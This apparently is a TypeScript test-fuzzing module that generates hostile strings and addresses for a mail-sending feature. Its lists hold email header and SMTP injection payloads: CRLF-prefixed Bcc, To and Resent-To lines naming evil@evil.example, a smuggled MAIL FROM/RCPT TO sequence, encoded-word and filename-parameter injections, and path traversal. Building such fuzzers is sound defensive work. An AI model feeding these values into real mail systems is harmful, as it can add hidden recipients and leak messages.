/** Texts that would be more than one value if they were put into a mail as they are, from a seed. */
import type { Random } from './mutate.ts'

/** Whoever is mailed there was brought in by a value. */
export const intruder = 'evil@evil.example'

const lineEnds = [
  '\r\n',
  '\n',
  '\r',
  '\r\n\r\n',
  '\n\n',
  '\r\n ',
  '\r\n\t',
  '\u2028',
  '\u2029',
  '\u0085',
  '\v',
  '\f',
]
const headers = [
  `Bcc: ${intruder}`,
  `To: ${intruder}`,
  `Cc: x <${intruder}>`,
  'Subject: other',
  'Content-Type: text/html; boundary=x',
  'X-Injected: 1',
  'Message-ID: <other@evil.example>',
  `Resent-To: ${intruder}`,
  `.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<${intruder}>\r\nDATA\r\n`,
]
const tricks = [
  '\0',
  '\x1b[31m',
  '\x7f',
  '\x80',
  '\ud800',
  '\udfff',
  '\ufeff',
  '\u202e',
  '\u{1f4c8}',
  'é',
  '日本',
  ...[
    '"',
    '\\"',
    '\\',
    "'",
    ',',
    ';',
    ':',
    '<',
    '>',
    '(',
    ')',
    '[',
    ']',
    '@',
    '=',
    '?',
    '%0d%0aBcc: x',
    '*=',
    '\\r\\n',
  ],
  '=?utf-8?q?=0D=0ABcc=3A_evil=40evil.example?=',
  `=?utf-8?b?${Buffer.from(`\r\nBcc: ${intruder}`).toString('base64')}?=`,
  '=?utf-8?q?half',
  '=?utf-7?q?+AA0ACg-?=',
  '=?x-unknown?q?=FF?=',
  "filename*0*=utf-8''a%0D%0A; filename*1=b",
  "utf-8''%0D%0ABcc%3A%20evil",
  '"; name="x.exe',
  `group: ${intruder}, other@evil.example;`,
  `"Ann" <${intruder}>`,
  `<${intruder}>`,
  `, ${intruder}`,
  `; ${intruder}`,
  '../../x.csv',
  '.',
  '\r\n.\r\n',
  '--jobsd',
  '\r\n--jobsd--\r\n',
]
const words = ['Report', 'Übersicht', 'a', 'x.csv', ' ', '  ', '', 'ann@acme.example']

/** One hostile text of up to some 2,000 characters. */
export function makeHostile(random: Random): string {
  const kind = random(12)
  if (kind === 0)
    return pick(tricks, random)
      .repeat(1 + random(200))
      .slice(0, 2000)
  if (kind === 1) return `${'x'.repeat(random(2000))}${injectHeader(random)}`
  if (kind === 2) return Array.from({ length: 400 }, () => pick(words, random)).join(random(2) ? ' ' : '')
  let text = ''
  for (let count = 1 + random(4); count > 0; count--) {
    const piece = random(3)
    text += piece === 0 ? injectHeader(random) : pick(piece === 1 ? tricks : words, random)
  }
  return text
}

/** What stands where one address belongs; now and then it is one. */
export function makeAddress(random: Random): string {
  const plain = `user${random(1000)}@acme.example`
  switch (random(8)) {
    case 0:
      return plain
    case 1:
      return `${plain}${injectHeader(random)}`
    case 2:
      return `${plain}${pick(tricks, random)}`
    case 3:
      return `${pick(tricks, random)}${plain}`
    case 4:
      return plain.replace('@', `${pick(tricks, random)}@`)
    case 5:
      return plain.replace('acme', `ac${pick([...tricks, ...lineEnds], random)}me`)
    case 6:
      return `${plain}>${pick(lineEnds, random)}RCPT TO:<${intruder}`
    default:
      return makeHostile(random)
  }
}

function injectHeader(random: Random): string {
  return pick(lineEnds, random) + pick(headers, random)
}

function pick<T>(list: readonly T[], random: Random): T {
  return list[random(list.length)]!
}
